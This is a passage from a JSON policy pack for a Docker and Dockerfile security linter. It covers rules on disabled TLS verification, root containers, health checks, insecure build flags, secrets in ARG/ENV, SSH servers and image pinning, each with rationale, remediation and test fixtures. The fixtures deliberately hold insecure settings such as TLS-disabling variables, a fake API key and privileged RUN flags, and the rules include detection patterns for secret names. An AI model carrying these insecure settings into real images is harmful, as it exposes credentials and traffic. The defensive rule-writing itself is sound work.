NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"paramSchemas":{"disablingVariable":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`NAME=value` words (ENV, ARG, or an assignment in a RUN) that switch verification off for Node.js, Git, Python, npm and pip; the bare names cover the legacy `ENV NAME value` form."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The user part names root (by name or UID 0), whatever group follows."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?=[A-Za-z0-9_]*(=|$))(?![A-Za-z0-9_]*(^|_)(PUBLIC|public|Public)(_|=|$))(?![A-Za-z0-9_]*_(FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type)(=|$))([A-Za-z0-9]+_)*(PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(_[A-Za-z0-9_]*)?(=|$)"},"paramSchemas":{"secretName":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A variable name with a secret-looking token (BuildKit\'s SecretsUsedInArgOrEnv list: apikey, auth, credential(s), key, password, pword, passwd, secret, token, plus pass) between underscores or at either end, optionally followed by `=value`. PUBLIC names and names that point at a file, a place or an account (`_FILE`, `_PATH`, `_URL`, `_ID`, \u2026) are left out."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"paramSchemas":{"sshServer":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Package names and programs of SSH servers, as words of RUN, CMD and ENTRYPOINT."},"sshPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An EXPOSE entry that publishes the SSH port."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5},{"line":7,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"paramSchemas":{"digest":{"schema":{"type":"string","format":"regex","minLength":1},"description":"What a pinned digest looks like."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: [registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"paramSchemas":{"trustedRegistries":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Registry hosts (as Docker resolves them: `docker.io` for Docker Hub) images may be pulled from. The default is Docker Hub, GitHub\'s registry (where actions and this repository\'s own images usually live), and the registries that vendors serve their own images from; a local registry. Replace the list with your organisation\'s registries and mirrors."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5},{"line":7,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a 